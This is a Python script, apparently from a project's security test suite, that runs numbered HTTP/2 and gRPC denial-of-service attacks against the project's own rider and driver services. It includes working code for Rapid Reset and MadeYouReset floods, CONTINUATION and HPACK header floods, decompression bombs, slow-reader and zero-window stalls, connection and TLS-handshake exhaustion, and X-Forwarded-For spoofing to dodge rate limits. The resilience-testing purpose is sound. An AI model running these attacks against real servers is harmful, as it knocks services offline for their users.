#!/usr/bin/python3
"""One stranger's attacks on a port that speaks HTTP/2: an edge's, or a service's own. Each goes on until its time is up;
if the server ends a connection, the stranger makes another one. hostile_edge_test.py starts them and watches the others.

    hostile_attacks.py NAME TARGET          TARGET: JSON of the fields of Target; prints what happened, as JSON

The numbers in the names' order are those of the list of attacks in docs/security.md. Attacks of an edge have tokens where
that leads further.
"""

import json
import os
import random
import resource
import select
import struct
import sys
import time
import zlib

import raw_http2 as h2

ADA = b"\x0a\x03ada"
# By service: a unary method, a method whose answer is a stream, and one with streams both ways.
METHODS = {
    "rider": ["/hail.rider.v1.RiderService/" + name for name in ("GetActiveRide", "WatchRide", "StreamRide")],
    "driver": ["/hail.driver.v1.DriverService/" + name for name in ("GetDriver", "WatchDriver", "StreamDriver")]}


class Target:
    """`address`: by service, HOST:PORT. `source`: the stranger's own address. `seconds`: how long to go on. `tokens`: by
    service, a list; empty without an edge. `tls`: HOST:PORT of a port with TLS, or ""."""

    def __init__(self, address, source, seconds, tokens, tls=""):
        self.address, self.source, self.seconds, self.tokens, self.tls = address, source, seconds, tokens, tls
        self.end = time.monotonic() + seconds
        self.counts = {"connections": 0, "cut": 0}

    def over(self):
        return time.monotonic() >= self.end

    def connect(self, service, address=None):
        connection = h2.Connection(address or self.address[service], source=self.source)
        # The attack waits for nobody.
        connection.socket.settimeout(2)
        self.count("connections")
        return connection

    def connections(self, service, most, address=None):
        """Makes `most` connections, or as many as it gets."""
        for _ in range(most):
            if self.over():
                return
            try:
                yield self.connect(service, address)
            except OSError:
                self.count("refused")

    def count(self, what, number=1):
        self.counts[what] = self.counts.get(what, 0) + number

    def token(self, service, number=0):
        tokens = self.tokens.get(service)
        return (("authorization", "Bearer " + tokens[number % len(tokens)]),) if tokens else ()


def take(connection):
    """Reads what is there, without waiting. False when the connection has ended."""
    # Not select(), which knows 1,024 files.
    poller = select.poll()
    poller.register(connection.socket, select.POLLIN)
    try:
        while poller.poll(0):
            if not connection.socket.recv(1 << 18):
                return False
    except OSError:
        return False
    return True


def again_and_again(target, service, greet, make, limit=None):
    """Sends make(first stream, number of the batch) on a connection until it ends, and then on another one. `limit`: the
    number of streams in all."""
    streams, batches = 0, 0
    while not target.over() and (limit is None or streams < limit):
        connection = target.connect(service)
        number = 1
        try:
            connection.send(greet)
            while not target.over() and (limit is None or streams < limit):
                batch, used = make(number, batches)
                batches += 1
                if not connection.send(batch) or not take(connection):
                    target.count("cut")
                    break
                number += 2 * used
                streams += used
                if number > 1 << 30:
                    break
        finally:
            connection.close()
    target.count("streams", streams)


GREETING = h2.PREFACE + h2.settings()
AGREEING = GREETING + h2.frame(h2.SETTINGS, flags=0x1)


def bombs(target, service):
    """1. Messages that unpack to a thousand times their size, on methods of each kind."""
    size = 48 << 20
    varint = bytes([size >> shift & 127 | 128 for shift in (0, 7, 14)]) + bytes([size >> 21])
    plain = b"\x0a" + varint + b"a" * size
    packed = {}
    for encoding, packer in (("gzip", zlib.compressobj(9, wbits=31)), ("deflate", zlib.compressobj(9))):
        packed[encoding] = h2.message(packer.compress(plain) + packer.flush(), compressed=1)
    target.end = time.monotonic() + target.seconds
    while not target.over():
        for path in METHODS[service]:
            for encoding, data in packed.items():
                connection = target.connect(service)
                connection.send(AGREEING)
                connection.open(1, path, ("grpc-encoding", encoding), *target.token(service))
                for at in range(0, len(data), 16_000):
                    last = h2.END_STREAM if at + 16_000 >= len(data) else 0
                    if not connection.send(h2.frame(h2.DATA, 1, data[at:at + 16_000], last)):
                        break
                connection.read_some(1)
                target.count("bombs")
                connection.close()


def zero_window(target, service):
    """2. 10,000 unary calls whose answers have no window."""
    body = h2.message(ADA)
    held = []
    for number, connection in enumerate(target.connections(service, 100)):
        block = h2.call_headers(METHODS[service][0], *target.token(service, number))
        connection.send(h2.PREFACE + h2.settings((4, 0)) + h2.frame(h2.SETTINGS, flags=0x1) + b"".join(
            h2.frame(h2.HEADERS, stream, block, h2.END_HEADERS) + h2.frame(h2.DATA, stream, body, h2.END_STREAM)
            for stream in range(1, 200, 2)))
        target.count("calls", 100)
        held.append(connection)
    while not target.over():
        for connection in held:
            take(connection)
        time.sleep(0.05)
    for connection in held:
        connection.close()


def slow_reader(target, service):
    """2. 1,000 calls, whose answers are read by one byte a time."""
    body, held = h2.message(ADA), []
    for number in range(10):
        connection = target.connect(service)
        block = h2.call_headers(METHODS[service][0], *target.token(service, number))
        connection.send(h2.PREFACE + h2.settings((4, 1)) + h2.frame(h2.SETTINGS, flags=0x1) + b"".join(
            h2.frame(h2.HEADERS, stream, block, h2.END_HEADERS) + h2.frame(h2.DATA, stream, body, h2.END_STREAM)
            for stream in range(1, 200, 2)))
        target.count("calls", 100)
        held.append(connection)
    more = b"".join(h2.frame(h2.WINDOW_UPDATE, stream, b"\0\0\0\1") for stream in range(1, 200, 2))
    while not target.over():
        for connection in held:
            take(connection)
            connection.send(more)
        time.sleep(0.5)
    for connection in held:
        connection.close()


def no_body(target, service, greet=GREETING):
    """3. 100,000 calls without a message; the server's SETTINGS are not acknowledged."""
    block = h2.call_headers(METHODS[service][0], *target.token(service))
    again_and_again(target, service, greet, lambda first, _: (b"".join(
        h2.frame(h2.HEADERS, first + 2 * i, block, h2.END_HEADERS) for i in range(100)), 100), limit=100_000)
    while not target.over():
        time.sleep(0.05)


def no_body_agreed(target, service):
    """3. The same, with the server's SETTINGS acknowledged."""
    no_body(target, service, AGREEING)


def resets(target, service, method, frame_of):
    block = h2.call_headers(METHODS[service][method], *target.token(service))
    again_and_again(target, service, GREETING, lambda first, _: (b"".join(
        h2.frame(h2.HEADERS, first + 2 * i, block, h2.END_HEADERS) + frame_of(first + 2 * i) for i in range(100)), 100))


def rapid_reset(target, service):
    """4. Calls that are reset at once (CVE-2023-44487)."""
    resets(target, service, 0, lambda stream: h2.frame(h2.RST_STREAM, stream, b"\0\0\0\x08"))


def rapid_reset_streams(target, service):
    """4. The same with a method with streams both ways."""
    resets(target, service, 2, lambda stream: h2.frame(h2.RST_STREAM, stream, b"\0\0\0\x08"))


def made_to_reset(target, service):
    """4. Calls that the server has to reset, for a window of 0 (CVE-2025-8671)."""
    resets(target, service, 0, lambda stream: h2.frame(h2.WINDOW_UPDATE, stream, b"\0\0\0\0"))


def made_to_reset_by_overflow(target, service):
    """4. Calls that the server has to reset, for a window that overflows (CVE-2025-8671)."""
    resets(target, service, 0, lambda stream: h2.frame(h2.WINDOW_UPDATE, stream, b"\x7f\xff\xff\xff"))


def endless_headers(target, service, start, more):
    again_and_again(target, service, GREETING, lambda first, _: (
        (h2.frame(h2.HEADERS, first, start) if first == 1 else b"") + more, 1 if first == 1 else 0))


def continuation(target, service):
    """5. A header block without end (CVE-2023-33953)."""
    start = h2.call_headers(METHODS[service][0])
    endless_headers(target, service, start, h2.frame(h2.CONTINUATION, 1, h2.literal("x", "y" * 8000)) * 8)


def literal(target, service):
    """5. A header of a gigabyte."""
    start = h2.call_headers(METHODS[service][0]) + b"\x00\x01x\x7f" + b"\x81\xff\xff\xff\x03"
    endless_headers(target, service, start, h2.frame(h2.CONTINUATION, 1, b"y" * 16_000) * 8)


def varint(target, service):
    """5. A number without end in a header block."""
    start = h2.call_headers(METHODS[service][0]) + b"\x00\x7f"
    endless_headers(target, service, start, h2.frame(h2.CONTINUATION, 1, b"\x80" * 16_000) * 8)


def bad_headers(target, service):
    """6. `-bin` headers that are not base64, and headers of 17 KB (CVE-2023-32732)."""
    bad = [h2.call_headers(METHODS[service][1], *target.token(service), header)
           for header in (("trace-bin", "%%%"), ("x-bin", "="), ("x-large", "a" * 17_000))]
    body = h2.message(ADA)

    def call(stream, block):
        frames = h2.frame(h2.HEADERS, stream, block[:16_000], 0 if block[16_000:] else h2.END_HEADERS)
        if block[16_000:]:
            frames += h2.frame(h2.CONTINUATION, stream, block[16_000:], h2.END_HEADERS)
        return frames + h2.frame(h2.DATA, stream, body, h2.END_STREAM)

    again_and_again(target, service, AGREEING, lambda first, number: (
        b"".join(call(first + 2 * i, bad[number % 3]) for i in range(5)), 5))


def flood(target, service, headers_of):
    """Calls without a pause, with 100 in flight. `headers_of`: of the call with a number."""
    body = h2.message(ADA)
    sent = answered = 0
    while not target.over():
        connection = target.connect(service)
        connection.send(AGREEING + h2.frame(h2.WINDOW_UPDATE, payload=struct.pack(">I", 1 << 30)))
        opened = closed = 0
        pending = b""
        while not target.over():
            new = min(100 - (opened - closed), 50)
            blocks = [h2.call_headers(METHODS[service][0], *headers_of(sent + i)) for i in range(new)]
            calls = b"".join(
                h2.frame(h2.HEADERS, stream, block, h2.END_HEADERS) + h2.frame(h2.DATA, stream, body, h2.END_STREAM)
                for stream, block in zip(range(2 * opened + 1, 1 << 31, 2), blocks))
            opened += new
            sent += new
            try:
                received = connection.socket.recv(1 << 18) if connection.send(calls) else b""
            except OSError:
                received = b""
            if not received:
                target.count("cut")
                break
            pending += received
            while len(pending) >= 9 and len(pending) >= 9 + int.from_bytes(pending[:3], "big"):
                size = 9 + int.from_bytes(pending[:3], "big")
                done = pending[3] == h2.RST_STREAM or pending[3] == h2.HEADERS and pending[4] & h2.END_STREAM
                closed += bool(done)
                pending = pending[size:]
        answered += closed
        connection.close()
    target.count("calls", sent)
    target.count("answers", answered)


def one_subject(target, service):
    """7. One subject's calls, as many as can be."""
    token = target.token(service)
    flood(target, service, lambda _: token)


def many_subjects(target, service):
    """7. The same, each with another of fifty tokens."""
    flood(target, service, lambda number: target.token(service, number))


def held_streams(target, service, path, body):
    """10,000 streams, 100 on each connection."""
    block, held = h2.call_headers(path), []
    for connection in target.connections(service, 100):
        connection.send(AGREEING + b"".join(
            h2.frame(h2.HEADERS, stream, block, h2.END_HEADERS) + h2.frame(h2.DATA, stream, h2.message(body))
            for stream in range(1, 200, 2)))
        take(connection)
        target.count("streams", 100)
        held.append(connection)
    while not target.over():
        for connection in held:
            take(connection)
        time.sleep(0.05)
    for connection in held:
        connection.close()


def reflection(target, service):
    """8. 10,000 streams of reflection."""
    held_streams(target, service, "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo", b"\x3a\x01*")


def health(target, service):
    """8. 10,000 watches of health."""
    held_streams(target, service, "/grpc.health.v1.Health/Watch", b"")


def connections(target, service):
    """9. 20,000 connections from one address; half of them begin to speak."""
    held = []
    for connection in target.connections(service, 20_000):
        if len(held) % 2:
            connection.send(GREETING)
        held.append(connection)
    target.count("held", len(held))
    # All of them are there for a while.
    time.sleep(1)
    target.count("cut", sum(not take(connection) for connection in held))
    for connection in held:
        connection.close()


def handshakes(target, _):
    """9. 3,000 handshakes of TLS that do not end."""
    held = []
    hello = bytes.fromhex("1603010200010001fc0303") + random.randbytes(100)
    for connection in target.connections("tls", 3000, target.tls):
        connection.send(hello)
        held.append(connection)
    while not target.over():
        time.sleep(0.05)
    for connection in held:
        connection.close()


def forged_addresses(target, service):
    """17. Calls that say to come from elsewhere (X-Forwarded-For), so that no address makes too many."""
    def headers(_):
        return (("x-forwarded-for", ".".join(str(random.randrange(1, 255)) for _ in range(4))),)
    flood(target, service, headers)


ATTACKS = {attack.__name__: attack for attack in (
    bombs, zero_window, slow_reader, no_body, no_body_agreed, rapid_reset, rapid_reset_streams, made_to_reset,
    made_to_reset_by_overflow, continuation, literal, varint, bad_headers, one_subject, many_subjects, reflection, health,
    connections, handshakes, forged_addresses)}


def main():
    name, fields = sys.argv[1:]
    # The stranger has a machine of his own: he does not take the servers' time here.
    os.nice(10)
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    fields = json.loads(fields)
    service = fields.pop("service")
    target = Target(**fields)
    try:
        ATTACKS[name](target, service)
    except OSError as error:
        target.counts["error"] = str(error)
    print(json.dumps(target.counts))


if __name__ == "__main__":
    main()
